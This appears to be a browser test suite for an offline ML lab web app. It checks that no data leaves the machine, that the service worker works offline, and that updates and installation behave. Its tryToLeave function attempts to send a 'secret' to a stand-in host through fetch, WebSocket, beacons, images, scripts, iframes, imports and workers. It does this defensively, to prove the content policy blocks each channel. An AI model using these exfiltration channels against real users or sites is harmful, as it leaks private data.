// What leaves this machine, seen from outside the page: by the server, and by a trap that every other name leads to.
import assert from 'node:assert/strict';
import { appendFileSync, cpSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { dist } from '../../scripts/paths.mjs';
import { writeServiceWorker } from '../../scripts/service-worker.mjs';
import { axeViolations, download, ready, startLab } from './harness.mjs';
import { askForLittle, loadSmall, runSmall } from './small-run.mjs';

/** Takes every connection to a name that is not this machine's, and counts those over which anything comes. */
function openTrap() {
  const trap = { caught: 0 };
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.once('data', () => {
      trap.caught++;
      socket.destroy();
    });
  });
  return new Promise((done) => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address();
      done(Object.assign(trap, { port, close: () => new Promise((closed) => server.close(closed)) }));
    });
  });
}

/** Every name leads to the trap but this machine's, and those that the browser itself asks for, whatever the page is. */
const rules = (port) =>
  [
    ...['*.googleapis.com', '*.google.com', '*.gvt1.com'].map((name) => `MAP ${name} ~NOTFOUND`),
    `MAP * 127.0.0.1:${port}`,
    ...['localhost', '127.0.0.1'].map((name) => `EXCLUDE ${name}`),
  ].join(', ');

const asked = [];
let trap;
let folder;
let lab;
before(async () => {
  trap = await openTrap();
  // A copy, in which there can be a newer version.
  folder = mkdtempSync(join(tmpdir(), 'graftlab-offline-'));
  cpSync(dist, folder, { recursive: true });
  lab = await startLab({
    folder,
    args: [`--host-resolver-rules=${rules(trap.port)}`],
    onRequest: ({ method, url, headers }) => {
      const hasBody = Number(headers['content-length'] ?? 0) > 0 || 'transfer-encoding' in headers;
      asked.push({ method, url, hasBody });
    },
  });
});
after(async () => {
  await lab?.close();
  await trap?.close();
  rmSync(folder, { recursive: true, force: true });
});

async function openStored() {
  const opened = await lab.openReady();
  await opened.page.evaluate(() => navigator.serviceWorker.ready);
  await opened.page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  return opened;
}

test('a whole run asks for nothing, then the lab opens and runs without a network', {
  timeout: 300_000,
}, async () => {
  const { page, context, problems } = await openStored();
  await page.waitForLoadState('networkidle');
  const loaded = asked.length;
  assert.ok(loaded > 5);

  await loadSmall(page);
  await askForLittle(page);
  await runSmall(page);
  assert.ok((await download(page, 'merged.onnx')).length > 500);
  assert.deepEqual(asked.slice(loaded), []);
  assert.deepEqual(
    asked.filter(({ method, hasBody }) => method !== 'GET' || hasBody),
    [],
  );

  await page.locator('[popovertarget=privacy]').click();
  await page.getByText('Since everything was there, not one more.').waitFor();
  await page.getByText('The lab is stored in this browser').waitFor();
  await page.getByText('Every request').click();
  await page
    .locator('#privacy')
    .getByText(/pkg\/(cpu|threads)\/graftlab_bg.wasm/)
    .first()
    .waitFor();
  assert.deepEqual(await axeViolations(page), []);

  await page.locator('[popovertarget=project]').getByText('saved', { exact: true }).waitFor();
  await context.setOffline(true);
  await page.reload();
  await ready(page);
  assert.equal(await page.evaluate(() => window.crossOriginIsolated), true);
  await page.locator('.network').nth(1).waitFor();
  await page.locator('#start:enabled').click();
  await page.locator('#runs tbody tr').nth(1).waitFor({ timeout: 120_000 });
  // The browser itself looks for a newer version when a page is opened, here past the network that was taken away.
  const isCheck = ({ url }) => url.endsWith('/service-worker.js');
  assert.deepEqual(
    asked.slice(loaded).filter((request) => !isCheck(request)),
    [],
  );
  assert.equal(trap.caught, 0);
  assert.deepEqual(problems, []);
  await context.close();
});

/** Tries every way out that there is, in a page or in a worker, and tells which were not refused. */
async function tryToLeave(outside) {
  const open = [];
  const attempt = async (name, way) => {
    try {
      if (await way()) open.push(name);
    } catch {
      // Refused.
    }
  };
  const event = (target, good, bad) =>
    new Promise((done) => {
      target[good] = () => done(true);
      target[bad] = () => done(false);
      setTimeout(() => done(false), 3000);
    });
  await attempt('fetch', () => fetch(outside, { method: 'POST', body: 'secret', mode: 'no-cors' }));
  await attempt('WebSocket', () => event(new WebSocket(outside.replace('http', 'ws')), 'onopen', 'onerror'));
  await attempt('EventSource', () => event(new EventSource(outside), 'onopen', 'onerror'));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('POST', outside);
    request.send('secret');
    return event(request, 'onload', 'onerror');
  });
  if (navigator.sendBeacon) {
    // It says yes before the policy is asked; the trap knows.
    navigator.sendBeacon(outside, 'secret');
  }
  if (globalThis.Image) {
    await attempt('image', () => {
      const image = new Image();
      image.src = `${outside}?secret`;
      return event(image, 'onload', 'onerror');
    });
    await attempt('script', () => {
      const script = document.createElement('script');
      script.src = outside;
      document.head.append(script);
      return event(script, 'onload', 'onerror');
    });
    await attempt('frame', () => {
      const frame = document.createElement('iframe');
      frame.src = outside;
      document.body.append(frame);
      // What is refused looks like what is elsewhere; the trap knows.
      return new Promise((done) => setTimeout(() => done(false), 500));
    });
  }
  await attempt('import', () => import(outside));
  for (const kind of ['data', 'blob']) {
    await attempt(`worker from ${kind}`, () => {
      const code = `fetch(${JSON.stringify(outside)}, { mode: 'no-cors' }); postMessage(1)`;
      const address =
        kind === 'data'
          ? `data:text/javascript,${encodeURIComponent(code)}`
          : URL.createObjectURL(new Blob([code]));
      return event(new Worker(address), 'onmessage', 'onerror');
    });
  }
  await attempt('worker from outside', () => event(new Worker(outside), 'onmessage', 'onerror'));
  return open;
}

for (const where of ['page', 'worker']) {
  test(`nothing gets out of the ${where}`, async () => {
    const before = trap.caught;
    const { page, context } = await openStored();
    const target = where === 'page' ? page : page.workers()[0];
    // As a task of its own: what the driver evaluates directly is exempt from some of the policy.
    const open = await target.evaluate(
      `new Promise((done, fail) => setTimeout(() => (${tryToLeave})('http://outside.test/').then(done, fail)))`,
    );
    assert.deepEqual(open, []);
    assert.equal(trap.caught, before);
    await context.close();
  });
}

test('the trap would have caught it', async () => {
  const before = trap.caught;
  const context = await lab.browser.newContext({ bypassCSP: true, serviceWorkers: 'block' });
  const page = await context.newPage();
  await page.goto(lab.address);
  await page.evaluate(() =>
    fetch('http://outside.test/', { method: 'POST', body: 'secret', mode: 'no-cors' }).catch(() => {}),
  );
  assert.ok(trap.caught > before);
  await context.close();
});

test('a newer version is offered, and taken when asked', async () => {
  const { page, context } = await openStored();
  appendFileSync(join(folder, 'icon.svg'), '\n');
  writeServiceWorker(folder);
  await page.evaluate(async () => (await navigator.serviceWorker.getRegistration()).update());
  await page.getByText('There is a newer version.').waitFor();
  assert.deepEqual(await axeViolations(page), []);
  await Promise.all([page.waitForEvent('load'), page.getByRole('button', { name: 'Change to it' }).click()]);
  await ready(page);
  await page.evaluate(async () => {
    while ((await caches.keys()).length !== 1) await new Promise(requestAnimationFrame);
  });
  assert.equal(await page.getByText('There is a newer version.').count(), 0);
  await context.close();
});

test('it can be installed', async () => {
  const { page, context } = await lab.open();
  const link = await page.locator('link[rel=manifest]').getAttribute('href');
  const address = new URL(link, lab.address);
  const manifest = await (await fetch(address)).json();
  assert.equal(new URL(manifest.start_url, address).href, lab.address);
  assert.equal(new URL(manifest.scope, address).href, lab.address);
  for (const { src, type } of manifest.icons) {
    const response = await fetch(new URL(src, address));
    assert.equal(response.headers.get('content-type'), type, src);
  }
  await context.close();
});
